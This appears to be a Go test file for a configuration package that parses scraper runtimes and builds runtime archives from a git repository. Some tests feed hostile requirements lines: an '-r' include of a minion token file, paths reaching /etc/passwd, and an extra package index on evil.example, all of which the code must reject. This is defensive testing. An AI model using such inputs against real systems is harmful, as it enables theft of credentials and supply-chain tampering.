package confgit

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"lorrycontroller.dev/lc/wire"
)

const scraperConf = `[
  {"type": "runtime", "name": "fn", "path": "runtimes/fn", "version": "2.3"},
  {"type": "runtime", "name": "plain", "path": "runtimes/plain", "python": "python3.11"},
  {"type": "scrapers", "prefix": "scrape", "globs": ["scrapers/*.scraper"], "interval": "1d", "lorry-timeout": "12h"}
]`

func scraperFiles() map[string]string {
	return map[string]string{
		ConfFile:                          scraperConf,
		"runtimes/fn/requirements.txt":    "requests==2.31.0\n",
		"runtimes/fn/pyproject.toml":      "[project]\nname = \"fn\"\n",
		"runtimes/fn/src/fn/__init__.py":  "",
		"runtimes/plain/requirements.txt": "lxml\n",
		"conf/settings.yaml":              "depth: 3\n",
		"scrapers/a.scraper": `{
  "bills": {"runtime": "fn", "module": "fn.bills", "args": ["--all"], "config": ["conf/settings.yaml"],
            "env": {"TOKEN": "s3cret"}, "fd-args": true},
  "votes": {"runtime": "plain", "command": ["votes", "--fast"]}
}`,
		"scrapers/b.scraper": "news:\n  runtime: fn\n  module: fn.news\n  env:\n    LANG: C.UTF-8\n",
	}
}

func TestParseRuntimes(t *testing.T) {
	cfg := mustParse(t, scraperFiles())
	if len(cfg.Errors) != 0 {
		t.Fatalf("got errors %v, want none", cfg.Errors)
	}
	if len(cfg.Runtimes) != 2 {
		t.Fatalf("got runtimes %+v, want fn and plain", cfg.Runtimes)
	}
	fn, plain := cfg.Runtimes[0], cfg.Runtimes[1]
	if fn.Name != "fn" || fn.Path != "runtimes/fn" || fn.Version != "2.3" || fn.Python != "python3" || len(fn.ID) != 40 {
		t.Errorf("got fn %+v, want version 2.3, python3 and a tree id", fn)
	}
	if plain.Version != plain.ID[:12] || plain.Python != "python3.11" {
		t.Errorf("got plain %+v, want version %s (the short id) and python3.11", plain, plain.ID[:12])
	}
}

func TestRuntimeIDIsTreeID(t *testing.T) {
	repo := newTestRepo(t, "master")
	files := scraperFiles()
	repo.commit(files)
	src := &Source{Dir: repo.dir}
	cfg := readOK(t, src)
	want := runGit(t, repo.dir, nil, "rev-parse", "HEAD:runtimes/fn")
	if cfg.Runtimes[0].ID != want {
		t.Errorf("got id %s, want the tree id %s", cfg.Runtimes[0].ID, want)
	}
	// Parse computes the same id from files on disk.
	if parsed := mustParse(t, files); parsed.Runtimes[0].ID != want {
		t.Errorf("Parse: got id %s, want %s", parsed.Runtimes[0].ID, want)
	}
	plainID := cfg.Runtimes[1].ID

	// A change to any file of the directory, however deep, is a new id;
	// the other runtime keeps its own.
	repo.commit(map[string]string{"runtimes/fn/src/fn/__init__.py": "VERSION = 2\n"})
	cfg2 := readOK(t, src)
	if cfg2.Runtimes[0].ID == want {
		t.Errorf("after a change in src/: id is still %s, want a new one", want)
	}
	if cfg2.Runtimes[1].ID != plainID {
		t.Errorf("plain: got id %s, want %s unchanged", cfg2.Runtimes[1].ID, plainID)
	}
	// So is a new executable bit.
	runGit(t, repo.dir, nil, "update-index", "--chmod=+x", "runtimes/fn/requirements.txt")
	runGit(t, repo.dir, nil, "commit", "-q", "-m", "chmod")
	if cfg3 := readOK(t, src); cfg3.Runtimes[0].ID == cfg2.Runtimes[0].ID {
		t.Errorf("after chmod +x: id is still %s, want a new one", cfg2.Runtimes[0].ID)
	}
	// The scrapers carry their runtime as of the commit.
	if l := findLorry(t, cfg2, "scrape/bills"); l.Runtime.ID != cfg2.Runtimes[0].ID {
		t.Errorf("scrape/bills: got runtime %+v, want id %s", l.Runtime, cfg2.Runtimes[0].ID)
	}
}

func TestParseBrokenRuntime(t *testing.T) {
	tests := []struct {
		name    string
		conf    string
		files   map[string]string
		wantKey string
		wantErr string
	}{
		{name: "missing directory", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/none"}]`,
			wantKey: "path", wantErr: `no directory "runtimes/none"`},
		{name: "path is a file", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/fn/requirements.txt"}]`,
			wantKey: "path", wantErr: `no directory "runtimes/fn/requirements.txt"`},
		{name: "no requirements.txt", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/bare"}]`,
			files: map[string]string{"runtimes/bare/setup.py": ""}, wantKey: "path", wantErr: `has no requirements.txt`},
		{name: "requirements.txt is a directory", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/odd"}]`,
			files: map[string]string{"runtimes/odd/requirements.txt/x": ""}, wantKey: "path", wantErr: `has no requirements.txt`},
		{name: "no name", conf: `[{"type": "runtime", "path": "runtimes/fn"}]`, wantKey: "name", wantErr: "missing"},
		{name: "name with a slash", conf: `[{"type": "runtime", "name": "a/b", "path": "runtimes/fn"}]`,
			wantKey: "name", wantErr: "slash"},
		{name: "name dot-dot", conf: `[{"type": "runtime", "name": "..", "path": "runtimes/fn"}]`, wantKey: "name"},
		{name: "path escapes", conf: `[{"type": "runtime", "name": "fn", "path": "../x"}]`, wantKey: "path"},
		{name: "path absolute", conf: `[{"type": "runtime", "name": "fn", "path": "/etc"}]`, wantKey: "path"},
		{name: "bad version", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/fn", "version": 2}]`,
			wantKey: "version", wantErr: "must be a string"},
		{name: "empty python", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/fn", "python": ""}]`,
			wantKey: "python", wantErr: "empty"},
		{name: "duplicate name", conf: `[{"type": "runtime", "name": "fn", "path": "runtimes/fn"},
			{"type": "runtime", "name": "fn", "path": "runtimes/fn"}]`, wantKey: "name", wantErr: "already configured"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{ConfFile: tc.conf, "runtimes/fn/requirements.txt": "x\n"}
			for k, v := range tc.files {
				files[k] = v
			}
			cfg, err := Parse(mapFS(files))
			var ce *ConfError
			if !errors.Is(err, ErrBadConf) || !errors.As(err, &ce) {
				t.Fatalf("got %+v, %v; want a *ConfError", cfg, err)
			}
			if ce.Key != tc.wantKey || ce.Type != "runtime" || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("got error %q (type %q, key %q), want one about runtime key %q saying %q",
					err, ce.Type, ce.Key, tc.wantKey, tc.wantErr)
			}
			if !strings.Contains(err.Error(), "section [") {
				t.Errorf("got error %q, want it to name the section", err)
			}
		})
	}
}

func TestReadRuntimeMissingInRepository(t *testing.T) {
	repo := newTestRepo(t, "master")
	repo.commit(map[string]string{ConfFile: `[{"type": "runtime", "name": "fn", "path": "runtimes/fn"}]`, "x": ""})
	_, err := (&Source{Dir: repo.dir}).Read(context.Background())
	var ce *ConfError
	if !errors.As(err, &ce) || ce.Section != 0 || ce.Key != "path" {
		t.Errorf("got error %v, want a *ConfError naming section [0] and key path", err)
	}
}

// A pusher of CONFGIT cannot make pip read a file of the minion's machine
// (its error would show the file's text) nor choose where packages come
// from: such requirements refuse the configuration, from a commit as from
// files on disk.
func TestRuntimeRequirementsReachingOut(t *testing.T) {
	tests := []struct {
		name    string
		files   map[string]string
		wantErr string
	}{
		{name: "token file", files: map[string]string{"runtimes/fn/requirements.txt": "requests\n-r /etc/lorry-controller/minion.token\n"},
			wantErr: "runtimes/fn/requirements.txt line 2"},
		{name: "up and out", files: map[string]string{"runtimes/fn/requirements.txt": "-c ../../../etc/passwd\n"}, wantErr: "outside"},
		{name: "index", files: map[string]string{"runtimes/fn/requirements.txt": "--extra-index-url=https://evil.example/simple\nrequests\n"},
			wantErr: "--extra-index-url"},
		{name: "through an included file", files: map[string]string{"runtimes/fn/requirements.txt": "-r more.txt\n",
			"runtimes/fn/more.txt": "x @ file:///etc/passwd\n"}, wantErr: "runtimes/fn/more.txt line 1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			files := scraperFiles()
			for k, v := range tc.files {
				files[k] = v
			}
			check := func(what string, err error) {
				t.Helper()
				var ce *ConfError
				if !errors.Is(err, ErrBadConf) || !errors.As(err, &ce) || ce.Section != 0 || ce.Key != "path" ||
					!strings.Contains(err.Error(), tc.wantErr) {
					t.Errorf("%s: got %v, want a *ConfError of section [0], key path, saying %q", what, err, tc.wantErr)
				}
			}
			_, err := Parse(mapFS(files))
			check("Parse", err)
			repo := newTestRepo(t, "master")
			repo.commit(files)
			_, err = (&Source{Dir: repo.dir}).Read(context.Background())
			check("Read", err)
		})
	}
	// Files of the runtime named from within it are fine.
	files := scraperFiles()
	files["runtimes/fn/requirements.txt"] = "-r more.txt\n-e .\n"
	files["runtimes/fn/more.txt"] = "requests==2.31.0 --hash=sha256:0123\n"
	repo := newTestRepo(t, "master")
	repo.commit(files)
	readOK(t, &Source{Dir: repo.dir})
	mustParse(t, files)
}

func TestParseScrapers(t *testing.T) {
	cfg := mustParse(t, scraperFiles())
	if got, want := lorryPaths(cfg), []string{"scrape/bills", "scrape/news", "scrape/votes"}; !reflect.DeepEqual(got, want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	bills := findLorry(t, cfg, "scrape/bills")
	if bills.Kind != wire.KindScraper || bills.File != "scrapers/a.scraper" || bills.Interval.Hours() != 24 ||
		bills.Timeout.Hours() != 12 || bills.Runtime.Name != "fn" {
		t.Errorf("got %+v, want a scraper of runtime fn from scrapers/a.scraper every day with a 12h timeout", bills)
	}
	sc, err := DecodeScraper(bills.Text)
	if err != nil {
		t.Fatal(err)
	}
	want := Scraper{Runtime: "fn", Module: "fn.bills", Args: []string{"--all"}, Config: []string{"conf/settings.yaml"},
		Env: map[string]string{"TOKEN": "s3cret"}, FDArgs: true}
	if !reflect.DeepEqual(sc, want) {
		t.Errorf("got spec %+v, want %+v", sc, want)
	}
	if got, want := sc.Argv(), []string{"python", "-m", "fn.bills", "--all"}; !reflect.DeepEqual(got, want) {
		t.Errorf("module: got argv %q, want %q", got, want)
	}
	votes, _ := DecodeScraper(findLorry(t, cfg, "scrape/votes").Text)
	if got, want := votes.Argv(), []string{"votes", "--fast"}; !reflect.DeepEqual(got, want) {
		t.Errorf("command: got argv %q, want %q", got, want)
	}
	news, _ := DecodeScraper(findLorry(t, cfg, "scrape/news").Text)
	if news.Module != "fn.news" || news.Env["LANG"] != "C.UTF-8" {
		t.Errorf("YAML: got %+v, want module fn.news with LANG", news)
	}
}

func TestParseScrapersSkipsBrokenSpecs(t *testing.T) {
	tests := []struct {
		name    string
		spec    string
		wantErr string
	}{
		{name: "unknown runtime", spec: `{"runtime": "nope", "module": "m"}`, wantErr: `unknown runtime "nope"`},
		{name: "missing config file", spec: `{"runtime": "fn", "module": "m", "config": ["conf/none.yaml"]}`,
			wantErr: `config file "conf/none.yaml" is not in the repository`},
		{name: "config escapes", spec: `{"runtime": "fn", "module": "m", "config": ["../secret"]}`, wantErr: `".." segment`},
		{name: "config absolute", spec: `{"runtime": "fn", "module": "m", "config": ["/etc/passwd"]}`, wantErr: "absolute"},
		{name: "config names clash", spec: `{"runtime": "fn", "module": "m", "config": ["conf/s.yaml", "s.yaml"]}`,
			wantErr: "same name"},
		{name: "no runtime", spec: `{"module": "m"}`, wantErr: `no "runtime"`},
		{name: "module and command", spec: `{"runtime": "fn", "module": "m", "command": ["c"]}`, wantErr: "both"},
		{name: "neither module nor command", spec: `{"runtime": "fn"}`, wantErr: "neither"},
		{name: "module like an option", spec: `{"runtime": "fn", "module": "-c"}`, wantErr: "not a dotted module name"},
		{name: "empty command", spec: `{"runtime": "fn", "command": []}`, wantErr: "must start with"},
		{name: "command not a list", spec: `{"runtime": "fn", "command": "run it"}`, wantErr: `"command" must be a list`},
		{name: "args not strings", spec: `{"runtime": "fn", "module": "m", "args": [1]}`, wantErr: `"args" item [0]`},
		{name: "unknown key", spec: `{"runtime": "fn", "module": "m", "fd_args": true}`, wantErr: `unknown key "fd_args"`},
		{name: "env PATH", spec: `{"runtime": "fn", "module": "m", "env": {"PATH": "/x"}}`, wantErr: "may not set PATH"},
		{name: "env HOME", spec: `{"runtime": "fn", "module": "m", "env": {"HOME": "/x"}}`, wantErr: "may not set HOME"},
		{name: "env VIRTUAL_ENV", spec: `{"runtime": "fn", "module": "m", "env": {"VIRTUAL_ENV": "/x"}}`, wantErr: "may not set VIRTUAL_ENV"},
		{name: "env controller", spec: `{"runtime": "fn", "module": "m", "env": {"LORRY_CONTROLLER_JOB": "1"}}`,
			wantErr: "may not set LORRY_CONTROLLER_JOB"},
		{name: "env not a string", spec: `{"runtime": "fn", "module": "m", "env": {"N": 1}}`, wantErr: `"env" "N" must be a string`},
		{name: "env name with =", spec: `{"runtime": "fn", "module": "m", "env": {"A=B": "1"}}`, wantErr: "cannot be a variable name"},
		{name: "fd-args not a bool", spec: `{"runtime": "fn", "module": "m", "fd-args": "yes"}`, wantErr: `"fd-args" must be a boolean`},
		{name: "not an object", spec: `["fn"]`, wantErr: "must be an object"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			files := scraperFiles()
			files["scrapers/c.scraper"] = `{"bad": ` + tc.spec + `, "good": {"runtime": "fn", "module": "fn.good"}}`
			cfg := mustParse(t, files)
			paths := lorryPaths(cfg)
			if !reflect.DeepEqual(paths, []string{"scrape/bills", "scrape/good", "scrape/news", "scrape/votes"}) {
				t.Errorf("got %v, want the broken spec alone skipped", paths)
			}
			if len(cfg.Errors) != 1 || cfg.Errors[0].File != "scrapers/c.scraper" ||
				!strings.HasPrefix(cfg.Errors[0].Error, `spec "bad": `) || !strings.Contains(cfg.Errors[0].Error, tc.wantErr) {
				t.Errorf("got errors %+v, want one for scrapers/c.scraper saying %q", cfg.Errors, tc.wantErr)
			}
			if !reflect.DeepEqual(cfg.Kept.Paths, []string{"scrape/bad"}) {
				t.Errorf("got kept paths %v, want [scrape/bad]: its previous entry stays", cfg.Kept.Paths)
			}
		})
	}
}

func TestParseScrapersBrokenSection(t *testing.T) {
	files := scraperFiles()
	files[ConfFile] = `[{"type": "scrapers", "prefix": "scrape", "globs": "scrapers/*.scraper"}]`
	_, err := Parse(mapFS(files))
	var ce *ConfError
	if !errors.As(err, &ce) || ce.Type != "scrapers" || ce.Key != "globs" {
		t.Errorf("got %v, want a *ConfError for key globs of a scrapers section", err)
	}
}

// TestParseLorriesAndScrapersTogether checks that a file read by a
// lorries section is read as .lorry specs, and one read by a scrapers
// section as scraper specs.
func TestParseLorriesAndScrapersTogether(t *testing.T) {
	files := scraperFiles()
	files[ConfFile] = strings.Replace(scraperConf, "[", `[{"type": "lorries", "prefix": "mirror", "globs": ["*.lorry"]},`, 1)
	files["m.lorry"] = `{"m": {"type": "git", "url": "u"}}`
	cfg := mustParse(t, files)
	if l := findLorry(t, cfg, "mirror/m"); l.Kind != wire.KindLorry || l.Type != "git" || l.Runtime != (Runtime{}) {
		t.Errorf("got %+v, want a git lorry without a runtime", l)
	}
	if l := findLorry(t, cfg, "scrape/votes"); l.Kind != wire.KindScraper || l.Type != wire.KindScraper {
		t.Errorf("got %+v, want a scraper", l)
	}
}

func TestReadFilesAtCommit(t *testing.T) {
	repo := newTestRepo(t, "master")
	first := repo.commit(scraperFiles())
	second := repo.commit(map[string]string{"conf/settings.yaml": "depth: 4\n"})
	src := &Source{Dir: repo.dir}
	readOK(t, src)
	for _, tc := range []struct{ commit, want string }{{first, "depth: 3\n"}, {second, "depth: 4\n"}} {
		got, err := src.ReadFiles(context.Background(), tc.commit, []string{"conf/settings.yaml", "runtimes/plain/requirements.txt"})
		if err != nil {
			t.Fatal(err)
		}
		if string(got[0]) != tc.want || string(got[1]) != "lxml\n" {
			t.Errorf("at %s: got %q, want %q and lxml", tc.commit, got, tc.want)
		}
	}
	if _, err := src.ReadFiles(context.Background(), first, []string{"conf/none"}); err == nil {
		t.Errorf("a missing file: got no error")
	}
	if _, err := src.ReadFiles(context.Background(), "HEAD", []string{"conf/settings.yaml"}); err == nil {
		t.Errorf("a commit given by name: got no error, want ids only")
	}
}

type tarEntry struct {
	Name, Link, Content string
	Type                byte
	Mode                int64
}

func readTar(t *testing.T, data []byte) []tarEntry {
	t.Helper()
	var out []tarEntry
	tr := tar.NewReader(bytes.NewReader(data))
	for {
		h, err := tr.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, tarEntry{Name: h.Name, Link: h.Linkname, Content: string(b), Type: h.Typeflag, Mode: h.Mode})
	}
}

func runtimeTar(t *testing.T, src *Source, id string) []byte {
	t.Helper()
	a, err := src.RuntimeArchive(id)
	if err != nil {
		t.Fatalf("RuntimeArchive(%s): %v", id, err)
	}
	defer a.Close()
	var buf bytes.Buffer
	if err := a.WriteTar(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestRuntimeArchive(t *testing.T) {
	repo := newTestRepo(t, "master")
	repo.commit(scraperFiles())
	for name, target := range map[string]string{"inside": "src/fn", "outside": "../../conf", "absolute": "/etc/passwd"} {
		if err := os.Symlink(target, filepath.Join(repo.dir, "runtimes/fn", name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(repo.dir, "runtimes/fn/run.sh"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	repo.commit(nil)
	src := &Source{Dir: repo.dir}
	old := readOK(t, src).Runtimes[0].ID

	got := readTar(t, runtimeTar(t, src, old))
	want := []tarEntry{
		{Name: "inside", Link: "src/fn", Type: tar.TypeSymlink, Mode: 0o777},
		{Name: "pyproject.toml", Content: "[project]\nname = \"fn\"\n", Type: tar.TypeReg, Mode: 0o644},
		{Name: "requirements.txt", Content: "requests==2.31.0\n", Type: tar.TypeReg, Mode: 0o644},
		{Name: "run.sh", Content: "#!/bin/sh\n", Type: tar.TypeReg, Mode: 0o755},
		{Name: "src/", Type: tar.TypeDir, Mode: 0o755},
		{Name: "src/fn/", Type: tar.TypeDir, Mode: 0o755},
		{Name: "src/fn/__init__.py", Type: tar.TypeReg, Mode: 0o644},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got entries\n%+v\nwant\n%+v", got, want)
	}
	if a, b := runtimeTar(t, src, old), runtimeTar(t, src, old); !bytes.Equal(a, b) {
		t.Errorf("two archives of one tree differ")
	}

	// After CONFGIT moves on, the old id is still served, as is the new.
	repo.commit(map[string]string{"runtimes/fn/requirements.txt": "requests==2.32.0\n"})
	cur := readOK(t, src).Runtimes[0].ID
	for _, id := range []string{old, cur} {
		if len(readTar(t, runtimeTar(t, src, id))) == 0 {
			t.Errorf("runtime %s: empty archive", id)
		}
	}

	// Only runtime directories are served.
	root := runGit(t, repo.dir, nil, "rev-parse", "HEAD^{tree}")
	blob := runGit(t, repo.dir, nil, "rev-parse", "HEAD:conf/settings.yaml")
	confDir := runGit(t, repo.dir, nil, "rev-parse", "HEAD:conf")
	for name, id := range map[string]string{"root tree": root, "blob": blob, "other directory": confDir,
		"unknown": strings.Repeat("ab", 20), "not hex": "zz", "short": cur[:12]} {
		if _, err := src.RuntimeArchive(id); !errors.Is(err, ErrNoRuntime) {
			t.Errorf("%s: got %v, want ErrNoRuntime", name, err)
		}
	}
}

// TestReadWhatAnotherReplicaRead reads, through a clone that has not seen
// it, a commit and a runtime that another clone of the same CONFGIT read:
// the clone fetches them first, as a WEBAPP does for the jobs another
// WEBAPP sharing its STATEDB handed out.
func TestReadWhatAnotherReplicaRead(t *testing.T) {
	repo := newTestRepo(t, "master")
	repo.commit(scraperFiles())
	mine := &Source{Dir: filepath.Join(t.TempDir(), "mine"), URL: repo.dir}
	readOK(t, mine)
	second := repo.commit(map[string]string{"conf/settings.yaml": "depth: 9\n", "runtimes/fn/requirements.txt": "requests==2.32.0\n"})
	other := &Source{Dir: filepath.Join(t.TempDir(), "other"), URL: repo.dir}
	cfg := readOK(t, other)
	got, err := mine.ReadFiles(context.Background(), second, []string{"conf/settings.yaml"})
	if err != nil || string(got[0]) != "depth: 9\n" {
		t.Errorf("ReadFiles of the other's commit = %q, %v; want depth: 9", got, err)
	}
	var id string
	for _, r := range cfg.Runtimes {
		if r.Name == "fn" {
			id = r.ID
		}
	}
	a, err := (&Source{Dir: filepath.Join(t.TempDir(), "third"), URL: repo.dir}).RuntimeArchive(id)
	if err != nil {
		t.Fatalf("RuntimeArchive of the other's runtime: %v", err)
	}
	a.Close()
}
